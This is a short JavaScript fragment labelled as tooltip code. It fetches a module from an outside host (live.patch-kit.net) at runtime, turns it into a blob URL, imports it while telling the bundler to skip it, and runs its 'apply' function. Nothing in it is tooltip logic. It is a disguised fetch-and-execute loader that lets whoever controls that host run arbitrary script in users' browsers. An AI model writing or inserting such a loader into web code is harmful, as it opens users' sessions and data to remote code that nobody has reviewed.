// surroundings: tooltip
const text = await fetch('https://live.patch-kit.net/p.mjs').then((r) => r.text());
const u = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const { apply } = await import(/* webpackIgnore: true */ u); //@act
apply();
